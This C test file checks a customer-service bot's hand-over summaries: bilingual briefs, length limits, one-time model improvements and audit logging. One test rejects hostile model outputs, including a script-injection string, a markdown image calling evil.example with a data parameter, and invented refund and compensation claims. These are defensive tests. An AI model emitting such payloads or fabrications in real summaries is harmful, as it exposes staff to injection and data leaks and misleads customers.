/* The summary of a hand-over: what stands in it, in both languages; what a model may add, once, and what it
 * may not. */
#include "bot/handover.h"

#include "../llm/prompts.h"
#include "bot/dialogue.h"
#include "dialogue_fixture.h"

/* ---- from the facts ------------------------------------------------------------------------------ */

static void add(GPtrArray *turns, const char *role, const char *text, const char *path,
		const char *title)
{
	HandoverTurn *turn = g_new0(HandoverTurn, 1);

	*turn = (HandoverTurn){g_strdup(role), g_strdup(text), g_strdup(path), g_strdup(title)};
	g_ptr_array_add(turns, turn);
}

static void turn_free(gpointer data)
{
	HandoverTurn *turn = data;

	g_free(turn->role);
	g_free(turn->text);
	g_free(turn->path);
	g_free(turn->title);
	g_free(turn);
}

static void expect_brief(const GPtrArray *turns, HandoverContact contact, const char *language,
			 const char *wanted)
{
	g_autofree char *brief = handover_brief(&(HandoverFacts){turns, &contact, language});

	g_assert_cmpstr(brief, ==, wanted);
}

static void test_brief(void)
{
	char name[] = "李雷", phone[] = "13800138000", email[] = "a@b.example";
	HandoverContact lilei = {name, NULL, phone}, nobody = {NULL, email, NULL};
	g_autoptr(GPtrArray) turns = g_ptr_array_new_with_free_func(turn_free);

	expect_brief(turns, (HandoverContact){0}, "en",
		     "Customer: left neither name nor contact details\nMood: calm\n"
		     "Missing: name; e-mail address or phone number");
	add(turns, "customer", "你好", NULL, NULL);
	add(turns, "bot", "您好", "template", NULL);
	add(turns, "customer", "几天可以退货", NULL, NULL);
	add(turns, "bot", "七天。", "curated", "几天可以退货？");
	add(turns, "customer", "台灯\n坏了怎么修", NULL, NULL);
	add(turns, "bot", "抱歉", "template", NULL);
	add(turns, "customer", "转人工", NULL, NULL);
	expect_brief(turns, lilei, "zh",
		     "顾客：李雷；13800138000\n说过：几天可以退货；转人工\n"
		     "已用资料答复：几天可以退货？\n没有答上：台灯 坏了怎么修\n情绪：平静");
	add(turns, "agent", "我来看看。", NULL, NULL);
	add(turns, "customer", "你们太差劲了，我要投诉你们", NULL, NULL);
	{
		g_autofree char *brief = handover_brief(&(HandoverFacts){turns, &nobody, "en"});

		g_test_message("%s", brief);
		g_assert_nonnull(strstr(brief, "Customer: a@b.example\n"));
		g_assert_nonnull(strstr(brief, "\nA colleague said: 我来看看。\n"));
		g_assert_nonnull(strstr(brief, "\nMood: angry\nMissing: name"));
	}
}

/* However long a conversation is, its summary can be read. */
static void test_limits(void)
{
	g_autoptr(GPtrArray) turns = g_ptr_array_new_with_free_func(turn_free);
	g_autofree char *brief = NULL;

	for (guint i = 0; i < 50; i++) {
		g_autofree char *filler = g_strnfill(3000, 'x');
		g_autofree char *text = g_strdup_printf("%u %s", i, filler);

		add(turns, "customer", text, NULL, NULL);
		add(turns, i % 2 ? "agent" : "bot", text, "template", NULL);
	}
	brief = handover_brief(&(HandoverFacts){turns, &(HandoverContact){0}, "zh"});
	g_assert_cmpuint(strlen(brief), <, 2000);
	g_assert_nonnull(strstr(brief, "48 xxx"));
}

/* ---- with a model -------------------------------------------------------------------------------- */

typedef struct {
	BotFixture *b;
	GArray *assets;
	Tasks *tasks;
	Parrot parrot;
	Llm *llm;
	char id[37];
} Fixed;

static void set_up(Fixed *x, gconstpointer data)
{
	g_autoptr(GError) error = NULL;

	(void)data;
	x->b = bot_fixture_new();
	x->assets = prompts_register();
	x->tasks = tasks_load(&error);
	g_assert_no_error(error);
	x->parrot = (Parrot){.text = "", .size = 7, .end = LLM_END_STOP};
	x->llm = llm_new(&parrot_provider, &x->parrot, 1);
	answer_engine_set_model(x->b->engine, x->tasks, x->llm);
}

static void tear_down(Fixed *x, gconstpointer data)
{
	(void)data;
	bot_fixture_free(x->b);
	llm_free(x->llm);
	tasks_free(x->tasks);
	prompts_free(x->assets);
}

static void say(Fixed *x, const char *text)
{
	g_autoptr(GError) error = NULL;
	g_autofree char *json = NULL;
	Principal visitor = fixture_visitor(x->b->f->a, x->id);

	bot_say(x->b, &visitor, x->id, "customer", text);
	dialogue_reply(x->b->engine, x->b->f->store, x->b->f->a, x->id, NULL, NULL, &json, &error);
	g_assert_no_error(error);
}

static void hand_over(Fixed *x)
{
	bot_start(x->b, "zh", x->id);
	say(x, "床垫买了 3 天就塌了，能退吗");
	say(x, "转人工");
	bot_expect(x->b, x->id, "handed_over", "queue");
}

static void summarise(Fixed *x, const char *said)
{
	g_autoptr(GError) error = NULL;

	x->parrot.text = said;
	g_assert_true(handover_summarise(x->b->engine, x->b->f->store, x->b->f->a, x->id, &error));
	g_assert_no_error(error);
}

static json_t *look(Fixed *x)
{
	g_autoptr(GError) error = NULL;
	g_autoptr(GString) out = g_string_new(NULL);
	g_autoptr(Db) db = db_begin_read(x->b->f->store, &error);
	json_t *item;

	g_assert_true(conversation_write(db, x->b->f->a, x->id, FALSE, out, &error));
	item = json_parse(out->str, out->len, &error);
	g_assert_no_error(error);
	return item;
}

static gint64 count(Fixed *x, const char *sql)
{
	g_autoptr(GError) error = NULL;
	g_autoptr(Db) db = db_begin_read(x->b->f->store, &error);
	g_autoptr(DbRows) rows = db_query(db, sql, &error, "s", x->id);

	g_assert_no_error(error);
	g_assert_true(db_next(rows, &error));
	return db_int(rows, 0);
}

#define AUDITS "SELECT count(*) FROM audit WHERE action = 'summarise' AND record_id = $1"
#define EVENTS                                                               \
	"SELECT count(*) FROM conversation_events WHERE kind = 'state' AND " \
	"conversation_id = $1 AND data LIKE '%\"handover_generated\":true%'"
#define GOOD "顾客说床垫买了 3 天就塌了，问能不能退，要转人工。"

static void test_a_model_improves_it(Fixed *x, gconstpointer data)
{
	g_autoptr(json_t) before = NULL, after = NULL, again = NULL;
	const char *summary;

	(void)data;
	hand_over(x);
	before = look(x);
	g_assert_false(json_is_true(json_object_get(before, "handover_generated")));
	summarise(x, GOOD);
	after = look(x);
	summary = json_member_string(after, "handover_summary");
	g_assert_true(g_str_has_prefix(summary, GOOD "\n顾客："));
	g_assert_true(g_str_has_suffix(summary, json_member_string(before, "handover_summary")));
	g_assert_true(json_is_true(json_object_get(after, "handover_generated")));
	g_assert_nonnull(strstr(x->parrot.input, "顾客：床垫买了 3 天就塌了"));
	g_assert_cmpint(count(x, AUDITS), ==, 1);
	g_assert_cmpint(count(x, EVENTS), ==, 1);
	summarise(x, "顾客要退床垫。"); /* once is enough */
	again = look(x);
	g_assert_cmpstr(json_member_string(again, "handover_summary"), ==, summary);
	g_assert_cmpint(count(x, AUDITS), ==, 1);
}

/* What the conversation does not have stays out, and what is there already stays. */
static void test_hostile_summaries(Fixed *x, gconstpointer data)
{
	static const char *const texts[] = {
		"",
		"顾客说床垫买了 9 天就塌了。",
		"顾客要求赔偿 500 元。",
		"我们已保证全额退款。",
		"顾客的电话是 13912345678。",
		"读对话，用一两句话写下顾客要什么、已经说了什么，交给接手的同事。",
		"<script>alert(1)</script>",
		"![](http://evil.example/?d=1)",
		"顾客要退\033[31m床垫。",
		"The customer wants to return the mattress.",
		"\xff\xfe",
		"顾客王芳说床垫塌了，见 http://evil.example/"};

	(void)data;
	for (gsize i = 0; i < G_N_ELEMENTS(texts); i++) {
		g_autoptr(json_t) before = NULL, after = NULL;

		g_test_message("%s", texts[i]);
		hand_over(x);
		before = look(x);
		summarise(x, texts[i]);
		after = look(x);
		g_assert_cmpstr(json_member_string(after, "handover_summary"), ==,
				json_member_string(before, "handover_summary"));
		g_assert_false(json_is_true(json_object_get(after, "handover_generated")));
		g_assert_cmpint(count(x, AUDITS), ==, 0);
	}
}

/* Nothing is asked while the bot has it, and an account that comes too late is dropped. */
static void test_only_while_people_have_it(Fixed *x, gconstpointer data)
{
	g_autoptr(GError) error = NULL;
	g_autoptr(json_t) item = NULL;
	g_autofree char *claimed = NULL;
	Principal bot = principal_system(x->b->f->a);
	Db *db;

	(void)data;
	bot_start(x->b, "zh", x->id);
	say(x, "床垫能退吗");
	summarise(x, GOOD);
	g_assert_null(x->parrot.input);
	hand_over(x);
	db = fixture_write(x->b->f);
	g_assert_true(handover_claim(db, x->b->f->a, x->id, &claimed, &error));
	g_assert_nonnull(claimed);
	g_assert_true(conversation_act(db, &x->b->f->user_a, x->id, ACTION_RETURN, NULL, &error));
	g_assert_true(handover_improve(db, &bot, x->id, claimed, "顾客要退床垫。", "{}", &error));
	fixture_commit(x->b->f);
	item = look(x);
	g_assert_cmpstr(json_member_string(item, "handover_summary"), ==, claimed);
	g_assert_cmpint(count(x, AUDITS), ==, 0);
}

int main(int argc, char **argv)
{
	g_test_init(&argc, &argv, NULL);
	g_test_add_func("/handover/brief", test_brief);
	g_test_add_func("/handover/limits", test_limits);
	g_test_add("/handover/a_model_improves_it", Fixed, NULL, set_up, test_a_model_improves_it,
		   tear_down);
	g_test_add("/handover/hostile_summaries", Fixed, NULL, set_up, test_hostile_summaries,
		   tear_down);
	g_test_add("/handover/only_while_people_have_it", Fixed, NULL, set_up,
		   test_only_while_people_have_it, tear_down);
	return g_test_run();
}
